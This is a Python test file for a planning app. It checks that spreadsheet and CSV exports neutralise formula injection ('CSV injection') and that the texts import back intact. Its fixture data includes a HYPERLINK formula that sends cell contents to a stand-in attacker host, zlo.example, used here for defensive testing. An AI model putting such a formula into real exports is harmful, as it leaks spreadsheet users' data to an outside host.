"""Text that looks like a formula stays text in every export (OWASP "CSV injection"): the
plan's workbook (XLSX, ODS), single registers (XLSX, ODS, CSV) and open data (CSV, XLSX),
and it imports back unchanged."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from smartplan.exchange.formula_guard import text_guard, text_unguard
from smartplan.exchange.ods_writer import plan_ods_save
from smartplan.exchange.plan_import import workbook_import
from smartplan.exchange.register_export import register_csv, register_ods, register_xlsx
from smartplan.exchange.registers import MEASUREMENTS, STACK
from smartplan.exchange.tests.test_ods_export import ods_cells
from smartplan.exchange.workbook_writer import plan_workbook_save, register_rows
from smartplan.indicators.models import Measurement, SubIndicator
from smartplan.opendata import writers
from smartplan.opendata.datasets import dataset
from smartplan.plans.models import Plan
from smartplan.stack.models import StackItem

pytestmark = pytest.mark.django_db

# Texts a user may type (the import keeps them as they are): each formula trigger, an
# apostrophe before text and before a trigger, an Excel error word.
TEXTS = [
    '=HYPERLINK("http://zlo.example/?"&A1;"Klikněte")',
    "+420 485 226 111",
    "-5 % nákladů",
    "@SUM(1+1)",
    "'apostrof na začátku",
    "'=už s apostrofem",
    "''dva apostrofy",
    "#N/A",
    "=",
]
# Texts only a program can store (the import strips leading white space): still never a
# formula in the export.
RAW_TEXTS = ["\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_plan(demo_plan):
    """The demo plan whose stack descriptions and notes, and own description, start with
    formula triggers (items 1… in order)."""
    items = list(StackItem.objects.filter(plan=demo_plan).order_by("number"))
    for item, value in zip(items, TEXTS, strict=False):
        item.description = value
        item.note = value
        item.save()
    demo_plan.description = TEXTS[0]
    demo_plan.vision = TEXTS[1]
    demo_plan.save()
    return demo_plan


def _descriptions(plan):
    return dict(
        StackItem.objects.filter(plan=plan).order_by("number").values_list("number", "description")
    )


def test_the_plan_xlsx_holds_no_formula_and_marks_the_texts(hostile_plan, tmp_path):
    path = tmp_path / "plan.xlsx"
    plan_workbook_save(plan=hostile_plan, target=path)
    workbook = openpyxl.load_workbook(path)
    texts = {}
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in TEXTS:
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    texts[cell.value] = cell
    assert set(texts) == set(TEXTS)
    assert all(texts[value].quotePrefix for value in TEXTS if value[0] in "=+-@")
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)
    plan_sheet = {row[0]: row[1] for row in workbook["Plán"].iter_rows(values_only=True)}
    assert plan_sheet["Popis"] == TEXTS[0]


def test_the_plan_ods_holds_no_formula(hostile_plan, tmp_path):
    path = tmp_path / "plan.ods"
    plan_ods_save(plan=hostile_plan, target=path)
    with zipfile.ZipFile(path) as archive:
        content = archive.read("content.xml").decode()
    assert "table:formula" not in content
    stack = ods_cells(str(path))["Zásobník projektů"]
    descriptions = [row[3] for row in stack[1 : 1 + len(TEXTS)]]
    assert descriptions == [("string", value) for value in TEXTS]


def test_register_exports_keep_text_as_text(hostile_plan):
    StackItem.objects.filter(plan=hostile_plan, number=len(TEXTS) + 1).update(
        description=RAW_TEXTS[0], note=RAW_TEXTS[1]
    )
    rows = register_rows(STACK, hostile_plan)
    expected = [*TEXTS, RAW_TEXTS[0]]
    sheet = openpyxl.load_workbook(io.BytesIO(register_xlsx(STACK, rows))).active
    cells = [row[3] for row in sheet.iter_rows(min_row=2, max_row=1 + len(expected))]
    assert [cell.value for cell in cells] == expected
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells if cell.value[0] in "=+-@\t")
    ods = register_ods(STACK, rows)
    with zipfile.ZipFile(io.BytesIO(ods)) as archive:
        assert "table:formula" not in archive.read("content.xml").decode()
    body = register_csv(STACK, rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    written = [row[3] for row in read[1 : 1 + len(expected)]]
    assert written[:4] == [
        "'" + '=HYPERLINK("http://zlo.example/?"&A1;"Klikněte")',
        "'+420 485 226 111",
        "'-5 % nákladů",
        "'@SUM(1+1)",
    ]
    assert written[4] == "'apostrof na začátku"  # no trigger after it: left alone
    assert written[5] == "''=už s apostrofem"
    assert written[-1] == "'\t=1+1"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in read for cell in row)
    assert [text_unguard(value) for value in written] == expected
    notes = [row[-1] for row in read if row[-1].startswith("'\r")]
    assert notes == ["'" + RAW_TEXTS[1]]


def test_numbers_and_dates_are_not_guarded(hostile_plan):
    sub = SubIndicator.objects.filter(plan=hostile_plan).first()
    Measurement.objects.create(
        plan=hostile_plan,
        sub_indicator=sub,
        date=dt.date(2021, 3, 5),
        value=Decimal("-1.5"),
        note="-1,5",
        status="final",
    )
    body = register_csv(MEASUREMENTS, register_rows(MEASUREMENTS, hostile_plan))
    read = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    row = dict(zip(read[0], read[1], strict=True))
    assert row["Hodnota"] == "-1,5"  # a number: a spreadsheet reads it as minus one and a half
    assert row["Datum"] == "5. 3. 2021"
    assert row["Poznámka"] == "'-1,5"  # a text that only looks like a number stays text


def test_open_data_csv_and_xlsx_keep_text_as_text(hostile_plan, tmp_path):
    item = dataset("zasobnik")
    rows = list(item.rows(hostile_plan))
    body = b"".join(writers.csv_chunks(item, rows)).decode()
    read = list(csv.reader(io.StringIO(body, newline="")))
    cells = [cell for row in read[1:] for cell in row]
    for value in TEXTS:
        assert text_guard(value) in cells
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
    path = tmp_path / "zasobnik.xlsx"
    with path.open("wb") as out:
        writers.write_xlsx(item, item.rows(hostile_plan), out)
    sheet = openpyxl.load_workbook(path).active
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value in TEXTS]
    assert {cell.value for cell in found} == set(TEXTS)
    assert all(cell.data_type == "s" for cell in found)
    assert all(cell.quotePrefix for cell in found if cell.value[0] in "=+-@")


def _import_back(plan, path):
    """Spoil the texts, import the exported file, and give the texts it restored."""
    expected = _descriptions(plan)
    StackItem.objects.filter(plan=plan).update(description="přepsáno")
    report = workbook_import(path=path, plan_slug=plan.slug)
    stack = next(s for s in report.sheets if s.name == "Zásobník projektů")
    assert stack.updated == len(expected)
    assert _descriptions(plan) == expected
    assert Plan.objects.get(pk=plan.pk).description == TEXTS[0]


def test_the_plan_xlsx_imports_back_with_the_same_texts(hostile_plan, tmp_path):
    path = tmp_path / "plan.xlsx"
    plan_workbook_save(plan=hostile_plan, target=path)
    dry = workbook_import(path=path, plan_slug=hostile_plan.slug, dry_run=True)
    assert all(s.created == s.updated == s.removed == 0 for s in dry.sheets)
    _import_back(hostile_plan, path)


def test_the_plan_ods_imports_back_with_the_same_texts(hostile_plan, tmp_path):
    path = tmp_path / "plan.ods"
    plan_ods_save(plan=hostile_plan, target=path)
    dry = workbook_import(path=path, plan_slug=hostile_plan.slug, dry_run=True)
    assert all(s.created == s.updated == s.removed == 0 for s in dry.sheets)
    _import_back(hostile_plan, path)


def test_dates_stay_dates(hostile_plan, tmp_path):
    path = tmp_path / "plan.xlsx"
    plan_workbook_save(plan=hostile_plan, target=path)
    approvals = openpyxl.load_workbook(path)["Schválení"]
    assert any(
        isinstance(cell, dt.datetime)
        for cell in next(approvals.iter_rows(min_row=2, values_only=True))
    )


def test_control_characters_xml_cannot_hold_do_not_break_the_export(demo_plan, tmp_path):
    """A text pasted with a control character (typed in the editing interface) is exported
    without it; before, openpyxl refused the whole workbook (IllegalCharacterError)."""
    StackItem.objects.filter(plan=demo_plan, number=1).update(description="=a\x01b\x1fc")
    xlsx = tmp_path / "plan.xlsx"
    plan_workbook_save(plan=demo_plan, target=xlsx)
    cell = openpyxl.load_workbook(xlsx)["Zásobník projektů"]["D2"]
    assert (cell.value, cell.data_type) == ("=abc", "s")
    ods = tmp_path / "plan.ods"
    plan_ods_save(plan=demo_plan, target=ods)
    assert ods_cells(str(ods))["Zásobník projektů"][1][3] == ("string", "=abc")
    item = dataset("zasobnik")
    out = tmp_path / "zasobnik.xlsx"
    with out.open("wb") as handle:
        writers.write_xlsx(item, item.rows(demo_plan), handle)
    values = [c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    assert "=abc" in values


def test_the_drop_down_lists_keep_formula_like_names_as_text(demo_plan, tmp_path):
    """An area named "=Energetika" appears in the hidden lists sheet as text, and the
    workbook still imports back without a change."""
    from smartplan.plans.models import Area

    area = Area.objects.filter(plan=demo_plan).order_by("pk").first()
    area.name = "=Energetika"
    area.save()
    xlsx = tmp_path / "plan.xlsx"
    plan_workbook_save(plan=demo_plan, target=xlsx)
    lists = openpyxl.load_workbook(xlsx)["Číselníky"]
    found = [cell for row in lists.iter_rows() for cell in row if cell.value == "=Energetika"]
    assert found
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    dry = workbook_import(path=xlsx, plan_slug=demo_plan.slug, dry_run=True)
    assert all(s.created == s.updated == s.removed == 0 for s in dry.sheets)
    ods = tmp_path / "plan.ods"
    plan_ods_save(plan=demo_plan, target=ods)
    cells = [cell for row in ods_cells(str(ods))["Číselníky"] for cell in row]
    assert ("string", "=Energetika") in cells
